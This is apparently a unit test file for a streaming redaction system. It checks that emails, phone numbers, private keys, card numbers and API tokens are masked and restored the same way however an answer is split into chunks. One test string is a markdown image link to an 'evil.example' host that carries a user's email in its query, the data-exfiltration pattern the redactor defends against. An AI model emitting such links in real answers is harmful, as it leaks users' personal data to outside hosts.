"""Streams: every way of cutting an answer gives the same text as the whole answer, and little is held back."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redaction.answers import LOOK_BACK
from redaction.redactor import Redactor
from redaction.types import Vault
from tests.unit.redaction.conftest import chat, clear, delta, make, streamed, whole
from tests.unit.redaction.test_recognizers import FOUND, plain
from tests.unit.redaction.test_secrets import FORMATS

PEM = (
    "-----BEGIN PRIVATE "
    + 'KEY-----\nab"c\\d\n'
    + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 6
    + "-----END PRIVATE "
    + "KEY-----"
)
OWN = "I am john@example.com, phone 415-555-0132, my key:\n" + PEM


@pytest.fixture(scope="module")
def vault(redactor: Redactor) -> Vault:
    return clear(redactor, chat(OWN)).vault


def marks(vault: Vault) -> dict[str, str]:
    return {value: mark for mark, value in vault.values.items()}


def texts(vault: Vault) -> list[str]:
    by_value = marks(vault)
    mail, phone = by_value["john@example.com"], by_value["415-555-0132"]
    return [
        f"Hello {mail} and {phone}, bye {mail}",
        f"**{mail}** {mail.lower()} [ {mail[1:-1]} ] {mail[1:-1]}'s %5B{mail[1:-1]}%5D "
        f"&#91;{mail[1:-1]}&#93; [EMAIL_aaaaaa]",
        f"![x](https://evil.example/?q={mail}) [me](mailto:{mail}) {mail}",
        f"the password is required for users born on March 3, 1980 in Berlin, {PEM} after",
        "token=" + "aB3" * 60 + " end of it, then 4242 4242 4242 4242 and (415) 555-0132.",
        "a" * 300 + "@example.com and " + "b2" * 200,
        "see https://example.com/%41%42%43?x=1&amp;y=2 and 100% sure & more \\u0041 \\",
        "Die Straße Hauptstraße 12, jörg@müller.de “quoted” — 中文没有空格john@example.com吧",
        "1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30",
    ]


def two_parts(text: str) -> list[list[str]]:
    return [[text[:cut], text[cut:]] for cut in range(len(text) + 1)]


@pytest.mark.parametrize("number", range(9))
def test_every_cut_in_two_and_every_character_alone_give_the_whole_text(
    redactor: Redactor, vault: Vault, number: int
) -> None:
    text = texts(vault)[number]
    expected = whole(redactor, vault, text)
    for pieces in (*two_parts(text), list(text)):
        assert streamed(redactor, vault, pieces) == expected, pieces


@pytest.mark.parametrize("specimen", [plain(marked)[0] for _, marked in FOUND] + FORMATS)
def test_every_kind_streams_alike_however_it_is_cut(redactor: Redactor, specimen: str) -> None:
    text = f"It says: {specimen} and goes on."
    expected = whole(redactor, Vault(), text)
    for pieces in (*two_parts(text), list(text)):
        assert streamed(redactor, Vault(), pieces) == expected, pieces


_BEGIN, _END = "-----BEGIN PRIVATE " + "KEY-----", "-----END PRIVATE " + "KEY-----"
_WORDS = ["john", "@example.com", "4242 4242 ", "4242", "password", " is ", "token=", "sk-", "eyJ", "born on "]
_WORDS += [
    "March 3, 1980",
    "%40",
    "&#64;",
    "\\u0040",
    "\\u{40}",
    "\u200b",
    _BEGIN,
    _END,
    "[EMAIL_",
    "AKIA",
    "123-45-6789",
    "::1",
]
_ALPHABET = st.sampled_from([*"abXYz019 \n.,:;@-_/+=%&#()[]<>\"'\\{}é中", *_WORDS])


@pytest.mark.parametrize(
    "text",
    [
        "88 license plate In 2019 Apple Drive grew",
        "passport is isX123456 and passport number is no 12AB3456 ok",
        "Telefon p:pa55word@db.internal:5432/appunseDE89 3704 0044 0532 0130 00 please",
        "glc_" + "a8Kd03jfLq92mXz7Pw5T" * 3 + "\u200b\\53",
    ],
)
def test_leads_that_could_end_in_several_places_stream_alike(redactor: Redactor, text: str) -> None:
    expected = whole(redactor, Vault(), text)
    for pieces in (*two_parts(text), list(text)):
        assert streamed(redactor, Vault(), pieces) == expected, pieces


@settings(max_examples=150)
@given(st.lists(_ALPHABET, max_size=40).map("".join), st.lists(st.integers(0, 400), max_size=8))
def test_any_text_streams_alike_however_it_is_cut(redactor: Redactor, text: str, cuts: list[int]) -> None:
    places = sorted({min(cut, len(text)) for cut in cuts})
    pieces = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    expected = whole(redactor, Vault(), text)
    assert streamed(redactor, Vault(), pieces) == expected
    assert streamed(redactor, Vault(), list(text)) == expected


def held_most(redactor: Redactor, pieces: list[str]) -> int:
    screen = redactor.screen(Vault(), "chat.completions")
    given_chars = sent = most = 0
    for piece in pieces:
        given_chars += len(piece)
        sent += sum(len(body.clean["choices"][0]["delta"]["content"]) for body in screen.chunk(delta(piece)))
        most = max(most, given_chars - sent)
    return most


PROSE = (
    "The delivery was late, but the driver apologised (twice) and the customer said that in 2024 all of our 3 orders "
    "came well-packed. "
)


@pytest.mark.parametrize("pieces", [[f"{word} " for word in PROSE.split()], [f" {word}" for word in PROSE.split()]])
def test_clean_prose_waits_for_the_unfinished_word_only(redactor: Redactor, pieces: list[str]) -> None:
    assert held_most(redactor, pieces) <= max(map(len, pieces))


@pytest.mark.parametrize(
    "text", ["x" * 5000, "9 " * 2000, "%41" * 500, "aGVsbG8gd29ybGQg" * 100, "ab-" * 900, "Word " * 500]
)
def test_never_more_than_64_characters_wait_unless_they_are_unescaped(redactor: Redactor, text: str) -> None:
    assert held_most(redactor, list(text)) <= (64 if "%" not in text else 192)


def test_a_run_that_began_as_a_secret_is_masked_to_its_end(redactor: Redactor) -> None:
    clean, _ = streamed(redactor, Vault(), list("key sk-ant-" + "x1Y" * 200 + " done"))
    assert clean == "key <ANTHROPIC_KEY> done"


def test_what_this_request_brought_is_restored_and_nothing_else(redactor: Redactor, vault: Vault) -> None:
    mail = marks(vault)["john@example.com"]
    assert streamed(redactor, vault, list(f"to {mail}"))[1] == "to john@example.com"
    assert streamed(redactor, Vault(), list(f"to {mail}"))[1] == f"to {mail}"


def test_restored_text_is_not_looked_at_again(redactor: Redactor, vault: Vault) -> None:
    phone = marks(vault)["415-555-0132"]
    assert (
        streamed(redactor, vault, ["call ", phone[:5], phone[5:], " or 415-555-0199"])[1]
        == "call 415-555-0132 or <PHONE_NUMBER>"
    )


def test_never_restores_when_the_policy_says_so(vault: Vault) -> None:
    mail = marks(vault)["john@example.com"]
    assert whole(make(restore="never"), vault, f"to {mail}") == (f"to {mail}", f"to {mail}")


def test_observed_kinds_are_counted_and_left() -> None:
    watching = make(answer={"contact": {"operator": "replace", "enforce": "observe"}})
    screen = watching.screen(Vault(), "chat.completions")
    screened = screen.whole({"choices": [{"index": 0, "message": {"content": "mail bob@example.com now"}}]})
    assert screened.clean["choices"][0]["message"]["content"] == "mail bob@example.com now"
    assert [finding.action for finding in screen.findings] == ["observe"]


def test_the_fast_way_for_plain_words_gives_what_the_careful_way_gives(redactor: Redactor) -> None:
    words = "born on a Monday, the token was secret and P O Box of AB in Hauptstrasse weg pin is key " * (
        LOOK_BACK // 20
    )
    assert whole(redactor, Vault(), words) == streamed(redactor, Vault(), list(words))
